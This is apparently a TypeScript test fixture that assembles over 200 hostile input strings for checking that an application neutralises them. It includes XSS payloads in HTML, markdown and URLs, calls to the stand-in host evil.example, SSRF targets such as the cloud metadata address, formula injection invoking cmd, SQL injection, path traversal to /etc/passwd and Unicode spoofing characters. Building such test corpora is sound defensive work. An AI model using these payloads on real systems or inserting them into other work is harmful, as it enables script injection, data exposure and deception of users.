/**
 * Texts that try to become more than text: scripts in every context a page could put them into, links that run code,
 * markup that overlays the page, characters that deceive. Each one that runs calls `alert`, changes
 * `window.__executed`, or asks another host, all of which a test sees.
 */
const CODE = 'window.__executed=1;alert(1)';
const OUT = 'https://evil.example/x';

const ELEMENTS = [
  `<script>${CODE}</script>`,
  `<script src="${OUT}.js"></script>`,
  `<img src=x onerror="${CODE}">`,
  `<img src="${OUT}.png">`,
  `<svg onload="${CODE}">`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><animate onbegin="${CODE}" attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CODE}>#x"/></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${CODE}">`,
  `<iframe src="javascript:${CODE}"></iframe>`,
  `<iframe srcdoc="<script>parent.__executed=1</script>"></iframe>`,
  `<object data="javascript:${CODE}"></object>`,
  `<embed src="${OUT}.swf">`,
  `<video><source onerror="${CODE}"></video>`,
  `<audio src=x onerror="${CODE}">`,
  `<details open ontoggle="${CODE}">x</details>`,
  `<input autofocus onfocus="${CODE}">`,
  `<select autofocus onfocus="${CODE}">`,
  `<textarea autofocus onfocus="${CODE}">`,
  `<body onload="${CODE}">`,
  `<marquee onstart="${CODE}">x</marquee>`,
  `<form action="javascript:${CODE}"><button>x</button></form>`,
  `<button formaction="javascript:${CODE}">x</button>`,
  `<isindex action="javascript:${CODE}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CODE}">`,
  `<meta http-equiv="refresh" content="0;url=${OUT}">`,
  `<base href="${OUT}/">`,
  `<link rel="stylesheet" href="${OUT}.css">`,
  `<link rel="preload" as="image" href="${OUT}.png">`,
  `<style>@import "${OUT}.css";</style>`,
  `<style>*{background:url(${OUT}.png)}</style>`,
  `<div style="background:url(${OUT}.png)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:#fff">Sign in again</div>`,
  `<template shadowrootmode="open"><img src=x onerror="${CODE}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
  `<a href="javascript:${CODE}">click</a>`,
  `<a href="data:text/html,<script>${CODE}</script>">click</a>`,
  `<a href="${OUT}" ping="${OUT}">click</a>`,
  `<plaintext>`,
  `<!--<img src="--><img src=x onerror="${CODE}">`,
];

const BREAKOUTS = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</script>',
  ']]>',
  '-->',
  '*/',
  '\\"',
  '&quot;>',
  '{{',
  '${',
];

const MARKDOWN = [
  `[click](javascript:${CODE})`,
  `[click](JaVaScRiPt:${CODE})`,
  `[click](java\nscript:${CODE})`,
  `[click](&#106;avascript:${CODE})`,
  `[click](vbscript:x)`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[click](file:///etc/passwd)`,
  `[click](//evil.example/x)`,
  `![x](${OUT}.png)`,
  `![x](x"onerror="${CODE})`,
  `[x]: javascript:${CODE}\n[x]`,
  `<javascript:${CODE}>`,
  `<${OUT}>`,
  `[https://assay.example](${OUT})`,
  `\`\`\`html\n<img src=x onerror=${CODE}>\n\`\`\``,
  `| a |\n|---|\n| <img src=x onerror=${CODE}> |`,
  `- [ ] <input onfocus=${CODE} autofocus>`,
  `# <svg onload=${CODE}>`,
  `<details open ontoggle=${CODE}>\n\n**x**\n\n</details>`,
  `[^1]: <img src=x onerror=${CODE}>\n\nx[^1]`,
];

const URLS = [
  `javascript:${CODE}`,
  `javascript://evil.example/%0a${CODE}`,
  `\u0001javascript:${CODE}`,
  `jav\tascript:${CODE}`,
  ` javascript:${CODE}`,
  `data:text/html,<script>${CODE}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CODE}'/>`,
  'blob:https://evil.example/0',
  `https://evil.example\\@assay.example/`,
  'https://assay.example@evil.example/',
  '//evil.example/x',
  '/\\evil.example/x',
  'https://аssay.example/',
  'ipfs://javascript:alert(1)',
  'http://127.0.0.1:22/',
  'http://[::1]/',
  'http://169.254.169.254/latest/meta-data',
];

const DECEPTIONS = [
  'live\u202egnp.exe',
  '\u2066assay\u2069\u200b\u200b',
  'a\u0000b',
  '\ufeffdigits',
  '0\u0338'.repeat(60),
  'W'.repeat(4000),
  '\ud800',
  '👩‍👩‍👧‍👦'.repeat(50),
  '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
  'digits\n\n\n\n\n\n\n\nConfirmed',
];

const CODES = [
  '{{constructor.constructor("alert(1)")()}}',
  ['$', '{alert(1)}'].join(''),
  '<%= 7*7 %>',
  '#{7*7}',
  '__proto__',
  'constructor',
  '{"__proto__":{"polluted":true}}',
  'toString',
  '=HYPERLINK("https://evil.example","x")',
  '+cmd|calc!A1',
  '@SUM(1)',
  "-2+3+cmd|' /C calc'!A0",
  "'; DROP TABLE jobs;--",
  '../../../../etc/passwd',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '[object Object]',
];

/** The same element where tags are filtered by case, spacing or nesting. */
const disguised = (element: string): readonly string[] => [
  element.replace(/<(\w+)/g, (_, name: string) => `<${name.toUpperCase()}`),
  element.replace(/<(\w+)/, '<$1/'),
  element.replace(/<(\w+)/, '<<$1><$1'),
];

/** At least 200, all different. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...new Set([
    ...ELEMENTS,
    ...ELEMENTS.flatMap(disguised),
    ...BREAKOUTS.map((end) => `${end}<img src=x onerror="${CODE}">`),
    ...BREAKOUTS.map((end) => `${end} onmouseover=${CODE} x=`),
    ...MARKDOWN,
    ...URLS,
    ...DECEPTIONS,
    ...CODES,
  ]),
];
